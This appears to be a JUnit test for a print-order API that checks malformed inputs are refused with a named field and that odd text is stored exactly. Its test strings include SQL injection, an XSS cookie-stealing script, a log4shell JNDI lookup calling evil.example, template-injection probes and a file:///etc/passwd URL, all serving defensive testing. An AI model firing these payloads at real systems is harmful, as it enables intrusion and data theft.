package io.printrelay.api;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.printrelay.PrintRelayTest;
import io.printrelay.TestOrders;
import org.junit.jupiter.api.Test;
import org.springframework.boot.test.web.server.LocalServerPort;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The bad-input corpus of the API (issue 12): malformed JSON, wrong types, huge strings and bodies, negative and huge
 * quantities, unknown countries, print_urls that are not http(s), control characters. Each is a 4xx in the error
 * envelope whose message names the field, never a 500; SQL and script injection strings and unusual unicode are valid
 * text and are stored exactly as sent. The count tried and how each ended is printed (and asserted whole).
 */
@PrintRelayTest
class BadInputCorpusTest {

    private static final ObjectMapper MAPPER = new ObjectMapper();

    @LocalServerPort
    int port;

    private final HttpClient http = HttpClient.newHttpClient();

    /** An input that must be refused, and what the message must name. */
    record Refused(String what, String method, String path, String body, String names) {
    }

    /** Valid text that looks dangerous: stored and read back exactly. */
    record Kept(String what, String text) {
    }

    @Test
    void everyBadInputIsA4xxNamingItsFieldAndEveryOddButValidTextIsStoredExactly() throws Exception {
        List<Refused> refused = refusedCorpus();
        List<Kept> kept = keptCorpus();
        Map<String, Integer> outcomes = new LinkedHashMap<>();
        List<String> wrong = new ArrayList<>();
        for (Refused input : refused) {
            HttpResponse<String> answer = send(input.method(), input.path(), input.body());
            String message = message(answer.body());
            String outcome = answer.statusCode() >= 400 && answer.statusCode() < 500 && message.contains(input.names())
                    ? "refused " + answer.statusCode() : "WRONG " + answer.statusCode();
            outcomes.merge(outcome, 1, Integer::sum);
            if (outcome.startsWith("WRONG")) {
                wrong.add(input.what() + ": HTTP " + answer.statusCode() + " " + abbreviate(answer.body())
                        + " (expected a 4xx naming '" + input.names() + "')");
            }
        }
        for (Kept input : kept) {
            String sourceId = TestOrders.unique();
            String body = TestOrders.json(sourceId, "\"email\":\"a@example.com\",\"checkout_data\":{\"gift note\":"
                    + MAPPER.writeValueAsString(input.text()) + "}", "{\"name\":" + MAPPER.writeValueAsString(
                    input.text()) + ",\"code\":\"bc\",\"quantity\":1}");
            HttpResponse<String> created = send("POST", "/orders", body);
            boolean same = false;
            if (created.statusCode() == 201) {
                String id = MAPPER.readTree(created.body()).path("order").path("id").asText();
                JsonNode order = MAPPER.readTree(send("GET", "/orders/" + id, null).body()).path("order");
                same = input.text().equals(order.path("order_items").path(0).path("name").asText())
                        && input.text().equals(order.path("checkout_data").path("gift note").asText());
            }
            String outcome = same ? "stored exactly" : "WRONG " + created.statusCode();
            outcomes.merge(outcome, 1, Integer::sum);
            if (!same) {
                wrong.add(input.what() + ": HTTP " + created.statusCode() + " " + abbreviate(created.body()));
            }
        }
        System.out.printf("bad-input corpus (API): %d tried: %s%n", refused.size() + kept.size(), outcomes);

        assertThat(wrong).as("inputs that did not end as they should").isEmpty();
        assertThat(outcomes.values().stream().mapToInt(Integer::intValue).sum()).isEqualTo(refused.size() + kept.size());
    }

    private static List<Refused> refusedCorpus() {
        List<Refused> corpus = new ArrayList<>();
        // malformed JSON
        for (String body : List.of("{", "}", "[]", "\"an order\"", "null", "42", "", "{\"order_items\": [}",
                "{\"source_id\": \"1\"} trailing", "{'single': 'quotes'}", "{\"a\":1,}", "\u00ef\u00bb\u00bf{}",
                "[".repeat(5000) + "]".repeat(5000), "{\"a\":".repeat(3000) + "1" + "}".repeat(3000))) {
            corpus.add(new Refused("malformed JSON " + abbreviate(body), "POST", "/orders", body, "body"));
        }
        // wrong types
        corpus.add(new Refused("order_items an object", "POST", "/orders", order(null, "\"order_items\":{}"),
                "order_items"));
        corpus.add(new Refused("order_items a string", "POST", "/orders",
                "{\"shipping\":{\"first_name\":\"A\"},\"order_items\":\"cards\"}", "order_items"));
        corpus.add(new Refused("an item a string", "POST", "/orders", order("\"cards\"", null), "order_items[0]"));
        for (String quantity : List.of("\"many\"", "1.5", "true", "[]", "{}", "null")) {
            corpus.add(new Refused("quantity " + quantity, "POST", "/orders",
                    order("{\"name\":\"x\",\"quantity\":" + quantity + "}", null), "order_items[0].quantity"));
        }
        corpus.add(new Refused("price a word", "POST", "/orders",
                order("{\"name\":\"x\",\"quantity\":1,\"price\":\"cheap\"}", null), "order_items[0].price"));
        corpus.add(new Refused("shipping a string", "POST", "/orders",
                "{\"shipping\":\"home\",\"order_items\":[{\"name\":\"x\",\"quantity\":1}]}", "shipping"));
        corpus.add(new Refused("checkout_data an array", "POST", "/orders", order(null, "\"checkout_data\":[1,2]"),
                "checkout_data"));
        corpus.add(new Refused("item metadata a string", "POST", "/orders",
                order("{\"name\":\"x\",\"quantity\":1,\"metadata\":\"print it\"}", null), "order_items[0].metadata"));
        corpus.add(new Refused("email a number", "POST", "/orders", order(null, "\"email\":12"), "email"));
        corpus.add(new Refused("email not an address", "POST", "/orders", order(null, "\"email\":\"nobody\""),
                "email"));
        corpus.add(new Refused("date_added a number", "POST", "/orders", order(null, "\"date_added\":[2026]"),
                "date_added"));
        corpus.add(new Refused("folder_id a word", "POST", "/orders", order(null, "\"folder_id\":\"new\""),
                "folder_id"));
        // huge strings and bodies
        corpus.add(new Refused("a 100,000-character item name", "POST", "/orders",
                order("{\"name\":\"" + "x".repeat(100_000) + "\",\"quantity\":1}", null), "order_items[0].name"));
        corpus.add(new Refused("a 20,000-character email", "POST", "/orders",
                order(null, "\"email\":\"" + "a".repeat(20_000) + "@example.com\""), "email"));
        corpus.add(new Refused("a 5 MB body", "POST", "/orders",
                order("{\"name\":\"x\",\"quantity\":1,\"metadata\":{\"blob\":\"" + "y".repeat(5_000_000) + "\"}}",
                        null), "body"));
        // negative and huge quantities
        for (String quantity : List.of("-1", "0", "-2147483648", "2147483648", "99999999999999999999", "1e100")) {
            corpus.add(new Refused("quantity " + quantity, "POST", "/orders",
                    order("{\"name\":\"x\",\"quantity\":" + quantity + "}", null), "order_items[0].quantity"));
        }
        corpus.add(new Refused("a negative price", "POST", "/orders",
                order("{\"name\":\"x\",\"quantity\":1,\"price\":-5}", null), "order_items[0].price"));
        // unknown countries
        for (String country : List.of("Atlantis", "ZZ", "XYZ", "U.S.S.R.")) {
            corpus.add(new Refused("shipping country " + country, "POST", "/orders",
                    "{\"shipping\":{\"first_name\":\"A\",\"country\":\"" + country + "\"},"
                            + "\"order_items\":[{\"name\":\"x\",\"quantity\":1}]}", "shipping.country"));
        }
        // print_url that is not http(s)
        for (String url : List.of("ftp://art.example/front.pdf", "javascript:alert(1)", "file:///etc/passwd",
                "not a url", "data:application/pdf;base64,JVBERi0=")) {
            corpus.add(new Refused("print_url " + url, "POST", "/orders", order("{\"name\":\"x\",\"quantity\":1,"
                    + "\"metadata\":{\"print_url\":\"" + url + "\"}}", null), "order_items[0].metadata.print_url"));
        }
        // control characters and broken unicode in text
        for (String text : List.of("\\u0000", "bell\\u0007", "esc\\u001b[31m", "\\ud800 lone surrogate",
                "\\udfff")) {
            corpus.add(new Refused("item name with " + text, "POST", "/orders",
                    order("{\"name\":\"" + text + "\",\"quantity\":1}", null), "order_items[0].name"));
        }
        // the other write endpoints
        corpus.add(new Refused("a history note that is not JSON", "POST", "/orders/1001/order-history", "note=hi",
                "body"));
        corpus.add(new Refused("an inventory item without a code", "POST", "/inventory-items",
                "{\"name\":\"x\"}", "code"));
        corpus.add(new Refused("move-orders with a word for the id list", "POST", "/move-orders",
                "{\"order_id_list\":\"all\",\"destination_folder_name\":\"New\"}", "order_id_list"));
        corpus.add(new Refused("a list limit of a million", "GET", "/orders?limit=1000000", null, "limit"));
        corpus.add(new Refused("a list offset that is negative", "GET", "/orders?offset=-1", null, "offset"));
        corpus.add(new Refused("an order id that is SQL", "GET", "/orders/1%20OR%201=1", null, "id"));
        return corpus;
    }

    private static List<Kept> keptCorpus() {
        return List.of(new Kept("SQL injection", "Robert'); DROP TABLE orders;--"),
                new Kept("SQL comment and quote", "1' OR '1'='1' /*"),
                new Kept("script injection", "<script>alert(document.cookie)</script>"),
                new Kept("log4shell-style lookup", "${jndi:ldap://evil.example/a}"),
                new Kept("template expressions", "{{7*7}} #{7*7} ${7*7} %{7*7}"),
                new Kept("Camel simple expression", "${header.CamelHttpUri} ${bean:nodes.id}"),
                new Kept("emoji and flags", "Cards \uD83C\uDF89\uD83C\uDDFA\uD83C\uDDF8"),
                new Kept("right-to-left and combining marks", "\u05E9\u05DC\u05D5\u05DD e\u0301\u0301\u0301"),
                new Kept("CJK", "\u540D\u523A \u5370\u5237"),
                new Kept("tabs and newlines", "line one\nline two\tand a tab"),
                new Kept("a percent-encoded string", "%27%3B%20DROP%20TABLE"));
    }

    private static String order(String item, String extraFields) {
        return TestOrders.json(TestOrders.unique(), extraFields, item);
    }

    private HttpResponse<String> send(String method, String path, String body) throws Exception {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + "/api/v2" + path))
                .header("ORDERDESK-STORE-ID", "1").header("ORDERDESK-API-KEY", "sandbox-api-key")
                .header("Content-Type", "application/json");
        request.method(method, body == null ? HttpRequest.BodyPublishers.noBody()
                : HttpRequest.BodyPublishers.ofString(body));
        return http.send(request.build(), HttpResponse.BodyHandlers.ofString());
    }

    private static String message(String body) {
        try {
            JsonNode json = MAPPER.readTree(body);
            return "error".equals(json.path("status").asText()) ? json.path("message").asText() : "";
        } catch (Exception notJson) {
            return "";
        }
    }

    private static String abbreviate(String text) {
        String flat = text == null ? "" : text.replaceAll("\\s+", " ");
        return flat.length() <= 60 ? flat : flat.substring(0, 60) + "...";
    }
}
